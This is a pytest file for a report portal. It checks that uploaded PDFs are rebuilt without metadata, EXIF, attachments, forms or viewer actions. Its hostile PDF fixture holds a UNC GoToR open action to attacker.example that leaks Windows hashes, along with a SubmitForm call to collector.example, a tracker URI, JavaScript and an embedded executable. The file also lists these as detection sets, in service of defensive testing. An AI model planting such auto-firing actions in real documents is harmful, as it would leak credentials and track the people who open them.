"""Evidence PDFs are rebuilt, never kept byte for byte: no author, software, dates, XMP or
creator's document ID; no action a viewer would run or follow (open, page and annotation
actions: URI, GoToR to a UNC path, SubmitForm, ImportData, Rendition, JavaScript), no
attachments or forms; annotations keep their look but lose their author; embedded photos
lose their EXIF. The stored SHA-256 is the rebuilt file's. Issue 12, item 4."""

import hashlib
import io
from pathlib import Path

import pikepdf
from pikepdf import Array, Dictionary, Name, String
from PIL import Image
from sqlalchemy import select

from portal.models import Evidence
from portal.services.common.uploads import prepare
from tests.support.report_form import receipt_of, submit_report

GPS_MARKER = "HEGANG-GPS-DATUM"
# Everything the hostile sample carries that must not survive, as it appears in a file.
TRACES = [b"SecretCam", GPS_MARKER.encode(), b"secret-comment", b"secret-xmp-tool",
          b"secret-image-xmp", b"Secret Office", b"tracker.example", b"collector.example",
          b"attacker.example", b"invoice.exe", b"app.alert", b"data.fdf", b"Exif"]  # fmt: skip
ACTIVE_KEYS = {"/OpenAction", "/AA", "/A", "/Names", "/AcroForm", "/Annots", "/Metadata",
               "/JS", "/EF", "/PieceInfo"}  # fmt: skip
ACTION_TYPES = {"/URI", "/GoToR", "/Launch", "/SubmitForm", "/ImportData", "/Rendition",
                "/JavaScript"}  # fmt: skip


def photo_with_exif() -> bytes:
    exif = Image.Exif()
    exif[0x010F] = "SecretCam"
    exif.get_ifd(0x8825)[0x12] = GPS_MARKER
    out = io.BytesIO()
    Image.new("RGB", (16, 16), (200, 30, 30)).save(
        out, "JPEG", exif=exif, comment=b"secret-comment"
    )
    return out.getvalue()


def hostile_pdf() -> bytes:
    """One page carrying every kind of trace and action the rebuild must remove."""
    pdf = pikepdf.new()
    pdf.add_blank_page(page_size=(200, 200))
    page = pdf.pages[0]
    with pdf.open_metadata(set_pikepdf_as_editor=False) as xmp:
        xmp["xmp:CreatorTool"] = "secret-xmp-tool"
    pdf.docinfo["/Author"] = "张三"  # after the XMP, which would overwrite it
    pdf.docinfo["/Creator"] = "Secret Office"
    photo = pikepdf.Stream(pdf, photo_with_exif())
    photo.update({"/Type": Name.XObject, "/Subtype": Name.Image, "/Width": 16, "/Height": 16,
                  "/ColorSpace": Name.DeviceRGB, "/BitsPerComponent": 8,
                  "/Filter": Name.DCTDecode,
                  "/Metadata": pdf.make_stream(b"<x:xmpmeta>secret-image-xmp</x:xmpmeta>"),
                  })  # fmt: skip
    page.Resources = Dictionary(XObject=Dictionary(Im0=photo))
    page.Contents = pdf.make_stream(b"q 16 0 0 16 10 10 cm /Im0 Do Q")
    look = pdf.make_stream(b"0 0 1 rg 0 0 20 20 re f")
    look.update({"/Type": Name.XObject, "/Subtype": Name.Form, "/BBox": [0, 0, 20, 20]})
    note = Dictionary(Type=Name.Annot, Subtype=Name.Square, Rect=[50, 50, 70, 70],
                      T=String("张三的批注"), M=String("D:20261120083000+08'00'"),
                      AP=Dictionary(N=look))  # fmt: skip
    tracker = Dictionary(S=Name.URI, URI=String("http://tracker.example/pixel"))
    link = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=[0, 0, 10, 10], A=tracker)
    button = pdf.make_indirect(Dictionary(
        Type=Name.Annot, Subtype=Name.Widget, FT=Name.Btn, T=String("send"),
        Rect=[80, 80, 90, 90], A=Dictionary(S=Name.SubmitForm, F=String("http://collector.example/")),
    ))  # fmt: skip
    page.Annots = Array([pdf.make_indirect(note), pdf.make_indirect(link), button])
    unc = String("\\\\attacker.example\\share\\x.pdf")  # opening it leaks a Windows hash
    page.obj.AA = Dictionary(O=Dictionary(S=Name.GoToR, F=unc, D=Array([0, Name.Fit])))
    pdf.Root.AcroForm = Dictionary(Fields=Array([button]))
    pdf.Root.OpenAction = Dictionary(S=Name.ImportData, F=String("data.fdf"))
    pdf.Root.AA = Dictionary(WC=Dictionary(S=Name.Rendition, R=Dictionary()))
    attachment = pdf.make_stream(b"MZ invoice.exe")
    attachment.Type = Name.EmbeddedFile
    spec = Dictionary(Type=Name.Filespec, F=String("invoice.exe"), EF=Dictionary(F=attachment))
    script = Dictionary(S=Name.JavaScript, JS=String("app.alert(1)"))
    pdf.Root.Names = Dictionary(
        EmbeddedFiles=Dictionary(Names=Array([String("invoice.exe"), spec])),
        JavaScript=Dictionary(Names=Array([String("js"), script])),
    )
    out = io.BytesIO()
    pdf.save(out, compress_streams=False)  # so the test can see what it carries
    return out.getvalue()


def found_anywhere(pdf: pikepdf.Pdf) -> set[str]:
    """Active keys and action types anywhere in the file (every object, direct ones too)."""
    found: set[str] = set()

    def walk(obj, depth=0):
        if depth > 50:
            return
        if isinstance(obj, pikepdf.Stream):
            obj = obj.stream_dict
        if isinstance(obj, pikepdf.Dictionary):
            found.update(key for key in obj.keys() if key in ACTIVE_KEYS)  # noqa: SIM118
            values = list(obj.values())
        elif isinstance(obj, pikepdf.Array):
            values = list(obj)
        else:
            return
        for value in values:
            if isinstance(value, pikepdf.Name) and str(value) in ACTION_TYPES:
                found.add(str(value))
            elif isinstance(value, pikepdf.Dictionary | pikepdf.Array) and not value.is_indirect:
                walk(value, depth + 1)

    walk(pdf.trailer)
    for obj in pdf.objects:
        walk(obj)
    return found


def test_a_pdf_is_rebuilt_without_metadata_actions_attachments_or_forms():
    source = hostile_pdf()
    for trace in TRACES:  # the sample really carries them all
        assert trace in source, trace

    rebuilt = prepare(source, "张三_举报材料.pdf").data

    for trace in TRACES:
        assert trace not in rebuilt, trace
    with pikepdf.open(io.BytesIO(rebuilt)) as pdf:
        assert "/Info" not in pdf.trailer and not pdf.docinfo.keys()
        assert found_anywhere(pdf) == set()
        with pikepdf.open(io.BytesIO(source)) as original:
            assert pdf.trailer.ID[0] != original.trailer.ID[0]  # made where it was created
        page = pdf.pages[0]
        photo = page.Resources.XObject.Im0.read_raw_bytes()
        assert b"Exif" not in photo and b"secret-comment" not in photo
        assert Image.open(io.BytesIO(photo)).size == (16, 16)  # still the same picture
        # The note's blue square is still drawn, now part of the page; its author is not.
        drawn = b"".join(part.read_bytes() for part in page.Contents)
        assert b"/Im0 Do" in drawn and len(page.Resources.XObject) == 2
        assert "张三".encode("utf-16-be") not in rebuilt


def test_the_stored_digest_is_the_rebuilt_files_and_the_name_is_not_kept(app, client, db, content):
    source = hostile_pdf()
    receipt_of(client, submit_report(client, files=[(source, "张三_举报材料.pdf")]))

    row = db.session.scalars(select(Evidence)).one()
    data = (Path(app.config["UPLOAD_DIR"]) / row.relative_path).read_bytes()
    assert row.name == "证据1.pdf" and row.media_type == "application/pdf"
    assert row.sha256 == hashlib.sha256(data).hexdigest() != hashlib.sha256(source).hexdigest()
    assert row.size == len(data) and b"Secret Office" not in data


def test_a_pdf_locked_only_against_editing_is_rebuilt_unlocked():
    """An owner password alone (anyone may open the file) does not stop a rebuild; a password
    needed to open it does (tests/test_evidence_pdf.py)."""
    pdf = pikepdf.new()
    pdf.add_blank_page()
    pdf.docinfo["/Author"] = "张三"
    out = io.BytesIO()
    pdf.save(out, encryption=pikepdf.Encryption(owner="owner-secret", user=""))
    rebuilt = prepare(out.getvalue(), "locked.pdf").data
    with pikepdf.open(io.BytesIO(rebuilt)) as reopened:
        assert not reopened.is_encrypted and "/Info" not in reopened.trailer
